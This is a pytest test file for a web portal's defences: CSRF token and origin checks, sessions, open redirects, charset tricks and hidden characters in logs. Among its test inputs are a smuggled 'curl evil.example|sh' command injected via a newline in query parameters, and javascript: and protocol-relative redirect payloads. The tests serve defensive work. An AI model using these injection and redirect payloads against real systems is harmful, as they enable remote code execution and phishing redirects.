"""Forms of the portal, every one there is: another site's page, or one of another session, sends none of them."""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator

import pytest
from fastapi import APIRouter
from fastapi.routing import APIRoute
from sqlalchemy import func, select

from broker.models import Event
from broker.web import portal, sign_in
from tests.support.browser import Browser
from tests.support.world import World
from tests.web.conftest import BrowserOf, ClientOf

SAFE = {"GET", "HEAD", "OPTIONS"}
FORGED: dict[str, Callable[[Browser, Browser], tuple[str, dict[str, str]]]] = {
    "no token": lambda _own, _other: ("", {}),
    "another session's token": lambda _own, other: (other.csrf, {}),
    "a foreign origin": lambda own, _other: (own.csrf, {"Origin": "https://evil.example"}),
    "a neighbour's origin": lambda own, _other: (own.csrf, {"Origin": f"{own.url}0"}),
    "a foreign page": lambda own, _other: (own.csrf, {"Origin": "null", "Sec-Fetch-Site": "cross-site"}),
    "a neighbour's page": lambda own, _other: (own.csrf, {"Sec-Fetch-Site": "same-site"}),
}


def routes(router: APIRouter) -> Iterator[APIRoute]:
    """A router's routes, and those of the routers in it."""
    for route in router.routes:
        if isinstance(route, APIRoute):
            yield route
        else:
            yield from routes(getattr(route, "original_router"))  # noqa: B009 - FastAPI keeps the class to itself


# Where an address names something, it names nothing that there is.
FORMS = sorted(
    (method, "/".join("x" if part.startswith("{") else part for part in route.path.split("/")))
    for router in (portal.router, sign_in.router)
    for route in routes(router)
    for method in set(route.methods or ()) - SAFE
)


def test_every_portal_form_is_tested() -> None:
    assert len(FORMS) > 50
    assert {("POST", "/sign-out"), ("POST", "/people/import"), ("POST", "/requests/x/approve")} < set(FORMS)


def events_of(world: World, person_id: str) -> int:
    with world.database.transaction() as tx:
        query = select(func.count()).where(Event.actor == f"person:{person_id}")
        return tx.execute(query.select_from(Event)).scalar_one()


@pytest.mark.parametrize("forged", FORGED)
def test_forms_of_other_sites_are_refused(world: World, browser_of: BrowserOf, forged: str) -> None:
    admin = world.person(roles=("admin",))
    own, other = browser_of(admin), browser_of(admin)
    token, headers = FORGED[forged](own, other)
    before = events_of(world, admin.id)
    for method, path in FORMS:
        answer = own.request(
            method, path, data={"csrf_token": token, "reason": "x"}, headers={"Accept": "*/*", **headers}
        )
        assert (answer.status_code, answer.json()["code"]) == (403, "csrf"), (method, path, answer.text)
    api = own.request("POST", "/api/v1/proposals/x/approve", headers=headers | {"X-CSRF-Token": token})
    assert (api.status_code, api.json()["code"]) == (403, "csrf")
    assert events_of(world, admin.id) == before
    assert own.api("GET", "/me").status_code == 200, "still signed in"


@pytest.mark.parametrize(
    "headers",
    [{}, {"Origin": "null", "Sec-Fetch-Site": "same-origin"}, {"Origin": "here"}, {"Sec-Fetch-Site": "none"}],
    ids=["an old browser", "a form of ours", "a script of ours", "sent again by hand"],
)
def test_own_forms_are_accepted(world: World, browser_of: BrowserOf, headers: dict[str, str]) -> None:
    own = browser_of(world.person(roles=("admin",)))
    headers = {name: own.url if value == "here" else value for name, value in headers.items()}
    assert own.post("/sign-out", data={"csrf_token": own.csrf}, headers=headers).status_code == 303
    assert own.api("GET", "/me").status_code == 401


def test_a_form_sent_after_the_session_ended_leads_to_signing_in(world: World, browser_of: BrowserOf) -> None:
    admin = world.person(roles=("admin",))
    own = browser_of(admin)
    world.change_sessions(admin.id, ended_at=world.now())
    before = events_of(world, admin.id)
    for method, path in FORMS:
        answer = own.request(method, path, data={"csrf_token": own.csrf, "reason": "x"})
        assert answer.status_code == 303, (method, path, answer.text)
        assert answer.headers["location"].startswith("/sign-in"), (method, path)
    assert events_of(world, admin.id) == before


@pytest.mark.parametrize(
    "path", ["/confirm?next=javascript:alert(1)", "/confirm?next=//evil.example", "//evil.example"]
)
def test_open_redirects_are_refused(world: World, browser_of: BrowserOf, path: str) -> None:
    text = browser_of(world.person()).request("GET", path).text
    leads = re.findall(r'(?:href|action|src)="([^"]*)"', text)
    assert leads and all(re.match(r"#|/(?!/)", lead) for lead in leads), text


@pytest.mark.parametrize("path", ["people?vendor", "grants?dataset", "leases?dataset", "why?dataset", "teams?vendor"])
def test_query_parameters_cannot_inject_shown_commands(world: World, browser_of: BrowserOf, path: str) -> None:
    admin = browser_of(world.person(roles=("admin",)))
    text = html.unescape(admin.request("GET", f"/{path}=x%0acurl evil.example|sh%0a").text)
    found = re.search(r'id="command"[^>]*>([^<]*)<', text)
    assert found and ("'xcurl evil.example|sh'" in found[1] or "curl" not in found[1]), text


@pytest.mark.parametrize("charset", ["utf-7", "punycode", "nonesuch"])
@pytest.mark.parametrize("path", ["/people/import", "/teams/new"])
def test_form_that_is_not_text_is_refused(world: World, browser_of: BrowserOf, path: str, charset: str) -> None:
    admin = browser_of(world.person(roles=("admin",)))
    fields = {"csrf_token": admin.csrf, "lines": "+2AA-", "name": "+2AA-"}
    parts = "".join(
        f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n' for name, value in fields.items()
    )
    headers = {"Content-Type": f"multipart/form-data; boundary=x; charset={charset}"}
    assert admin.request("POST", path, content=f"{parts}--x--\r\n", headers=headers).status_code in (403, 404, 422)


def test_hidden_characters_do_not_reach_the_log(world: World, browser_of: BrowserOf, client_of: ClientOf) -> None:
    guest, dataset, grant = world.guest()
    browser = browser_of(guest)
    before = events_of(world, guest.id)
    for hidden in ("\u202egnp", "\u009b31m", "x" * 20_000):
        form = {"csrf_token": browser.csrf, "slice": hidden, "kind": "postgres", "form_id": "a" * 30}
        assert browser.request("POST", f"/grants/{grant.id}/credential", data=form).status_code == 422
        asked = {"dataset": dataset.slug, "slice": hidden}
        assert client_of(guest).post("/leases", json=asked).status_code == 422
    assert events_of(world, guest.id) == before
